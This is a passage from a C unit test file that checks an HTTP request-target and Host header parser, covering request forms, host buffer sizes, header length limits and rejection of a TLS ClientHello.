	for (size_t i = 0; i < sizeof(http_cases) / sizeof(http_cases[0]); i++)
		check_http(&http_cases[i], false);

	/* info */
	const char *req = "CONNECT tunnel.test:443 HTTP/1.1\r\nHost: tunnel.test:443\r\n\r\n";

	peek_http_host_ex((const uint8_t *)req, strlen(req), host, sizeof(host), &info);
	ok(info.target == PEEK_HTTP_AUTHORITY && info.minor == 1 && info.port == 443, "info of CONNECT");
	req = "GET http://a.test/ HTTP/1.0\r\n\r\n";
	peek_http_host_ex((const uint8_t *)req, strlen(req), host, sizeof(host), &info);
	ok(info.target == PEEK_HTTP_ABSOLUTE && info.minor == 0 && info.port == 0, "info of absolute-form");
	req = "OPTIONS * HTTP/1.0\r\n\r\n";
	is_int(peek_http_host_ex((const uint8_t *)req, strlen(req), host, sizeof(host), &info), PEEK_ABSENT,
	       "OPTIONS * HTTP/1.0: ABSENT");
	ok(info.target == PEEK_HTTP_ASTERISK, "info of asterisk-form");
	req = "GET / HTTP/1.1\r\nHost: a.test\r\n\r\n";
	peek_http_host_ex((const uint8_t *)req, strlen(req), host, sizeof(host), &info);
	ok(info.target == PEEK_HTTP_ORIGIN && info.minor == 1, "info of origin-form");

	/* host buffer */
	is_int(peek_http_host((const uint8_t *)req, strlen(req), host, 7), PEEK_FOUND, "host buffer just big enough");
	is_int(peek_http_host((const uint8_t *)req, strlen(req), host, 6), PEEK_INVALID, "host buffer too small");
	ok(host[0] == '\0', "host cleared");

	/* The head bound. */
	static const char start[] = "GET / HTTP/1.1\r\nHost: a.test\r\nX: ";
	size_t n;

	memset(big, 'x', sizeof(big));
	memcpy(big, start, sizeof(start) - 1);
	memcpy(big + PEEK_HTTP_MAX - 4, "\r\n\r\n", 4);
	is_int(peek_http_host(big, PEEK_HTTP_MAX, host, sizeof(host)), PEEK_FOUND, "head of exactly PEEK_HTTP_MAX");
	is_int(peek_http_host(big, PEEK_HTTP_MAX + 100, host, sizeof(host)), PEEK_FOUND, "... with more after it");
	is_int(peek_http_host(big, PEEK_HTTP_MAX - 1, host, sizeof(host)), PEEK_NEED_MORE, "... less a byte");
	memset(big, 'x', sizeof(big));
	memcpy(big, start, sizeof(start) - 1);
	memcpy(big + PEEK_HTTP_MAX - 3, "\r\n\r\n", 4);
	is_int(peek_http_host(big, PEEK_HTTP_MAX - 1, host, sizeof(host)), PEEK_NEED_MORE, "head of PEEK_HTTP_MAX + 1: NEED_MORE at first");
	is_int(peek_http_host(big, PEEK_HTTP_MAX, host, sizeof(host)), PEEK_INVALID, "... INVALID at the bound");
	is_int(peek_http_host(big, PEEK_HTTP_MAX + 1, host, sizeof(host)), PEEK_INVALID, "... INVALID when complete");
	/* Many short header lines. */
	n = 0;
	memcpy(big, "GET / HTTP/1.1\r\n", 16);
	n = 16;
	while (n < PEEK_HTTP_MAX + 100) {
		memcpy(big + n, "A:\r\n", 4);
		n += 4;
	}
	is_int(peek_http_host(big, n, host, sizeof(host)), PEEK_INVALID, "2000 header lines");
	/* Nothing yet, and other protocols. */
	is_int(peek_http_host((const uint8_t *)"", 0, host, sizeof(host)), PEEK_NEED_MORE, "nothing yet");
	is_int(peek_http_host(hello_curl, hello_curl_len, host, sizeof(host)), PEEK_INVALID, "a ClientHello");
}

int main(void)
{
	test_detect();
	test_peek_tls();
	test_http();
	return tap_done();
}
